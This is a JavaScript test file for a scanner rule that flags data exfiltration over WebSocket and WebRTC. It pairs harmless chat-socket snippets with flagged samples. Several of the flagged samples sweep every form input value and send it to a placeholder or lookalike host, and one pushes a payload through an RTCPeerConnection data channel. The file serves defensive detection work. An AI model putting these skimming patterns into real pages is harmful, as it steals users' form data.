import rule from './websocket-webrtc-exfil.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    "var ws = new WebSocket('wss://chat.example/s'); ws.send('ping');",
    "var ws = new WebSocket(url); ws.send(msg);",
    { name: 'chat widget to its own literal host', code: "var ws = new WebSocket('wss://rt.chatvendor.example/ws'); ws.send(JSON.stringify({ type: 'message', text: input.value }));" },
    { name: 'a promisified chat socket sending a typed message to its own literal host', code: "function open() { return new Promise(function (ok) { var s = new WebSocket('wss://rt.chatvendor.example/ws'); s.onopen = function () { ok(s); }; }); } open().then(function (s) { s.send(JSON.stringify({ type: 'message', text: box.value })); });" },
    { name: 'a chat widget that also queries inputs (to focus them), sending none of their values', code: "var f = document.querySelectorAll('input, select'); f[0].focus(); var ws = new WebSocket('wss://ws.example/s'); ws.send(JSON.stringify(data));" },
    { name: 'a socket client picking WebSocket or MozWebSocket, sending its own protocol frames to its literal host', code: "var Impl = window.WebSocket || window.MozWebSocket; var s = new Impl('wss://rt.chatvendor.example/ws'); s.onopen = function () { s.send(JSON.stringify({ type: 'hello', v: 2 })); };" },
  ],
  invalid: [
    { name: 'the constructor picked as WebSocket || MozWebSocket, sending the swept form', code: "var S = window.WebSocket || window.MozWebSocket; var f = document.querySelectorAll('input, select'); var data = []; f.forEach(function (i) { data.push(i.value); }); var ws = new S('wss://ws.example/s'); ws.onopen = function () { ws.send(JSON.stringify(data)); };", messageIds: ['ws'], severity: 'medium' },
    { name: 'new (window.WebSocket || window.MozWebSocket)(url) sending run-time data', code: "var ws = new (window.WebSocket || window.MozWebSocket)('wss://ws.example/s'); ws.onopen = function () { ws.send(JSON.stringify(data)); };", messageIds: ['ws'], severity: 'low' },
    { code: "var ws = new WebSocket('wss://ws.example/s'); ws.send(JSON.stringify(data));", messageIds: ['ws'], severity: 'low' },
    { code: "var pc = new RTCPeerConnection(); var ch = pc.createDataChannel('x'); ch.send(payload);", messageIds: ['rtc'] },
    { name: 'lookalike host', code: "var ws = new WebSocket('wss://jquery-cdn-static.example/s'); ws.send(JSON.stringify(data));", messageIds: ['ws'], severity: 'medium' },
    { name: 'what it sends comes from a sweep of the form', code: "var f = document.querySelectorAll('input, select'); var data = []; f.forEach(function (i) { data.push(i.value); }); var ws = new WebSocket('wss://ws.example/s'); ws.send(JSON.stringify(data));", messageIds: ['ws'], severity: 'medium' },
    { name: 'the socket comes through a promise and sends the swept form', code: "function link() { return new Promise(function (done, fail) { var c = new WebSocket('wss://ws.example/s'); c.onopen = function () { done(c); }; c.onerror = fail; }); } var f = document.querySelectorAll('input, select'); var data = []; f.forEach(function (i) { data.push(i.value); }); link().then(function (sock) { sock.send(JSON.stringify(data)); });", messageIds: ['ws'], severity: 'medium' },
  ],
});
